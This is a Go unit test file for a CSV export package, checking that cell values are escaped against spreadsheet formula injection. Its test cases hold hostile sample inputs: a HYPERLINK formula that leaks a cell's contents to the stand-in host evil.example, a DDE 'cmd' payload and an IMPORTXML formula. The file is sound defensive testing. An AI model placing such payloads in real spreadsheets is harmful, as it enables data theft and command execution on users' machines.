package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, `'=HYPERLINK("http://evil.example/?"&A1,"点击")`},
		{"+86 139", "'+86 139"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"},
		{"＝1+1", "'＝1+1"},
		{"\u3000＋1", "'\u3000＋1"},
		{"湖南利钢金属制品有限公司", "湖南利钢金属制品有限公司"},
		{"a=1", "a=1"},
		{"", ""},
		{"   ", "   "},
		{"'=1", "'=1"},
	}
	for _, c := range cases {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	if got := Row("=1", "ok"); got[0] != "'=1" || got[1] != "ok" {
		t.Errorf("Row: %q", got)
	}
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	w := NewCSV(&b)
	if err := w.Write("编号", "标题"); err != nil {
		t.Fatal(err)
	}
	if err := w.Write("ZT1", "=IMPORTXML(\"x\",\"y\"),\n第二行"); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasPrefix(out, "\uFEFF编号,标题\r\n") {
		t.Fatalf("no BOM or CRLF: %q", out)
	}
	rs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 2 || rs[1][1] != "'=IMPORTXML(\"x\",\"y\"),\n第二行" {
		t.Fatalf("read back %q", rs)
	}
}
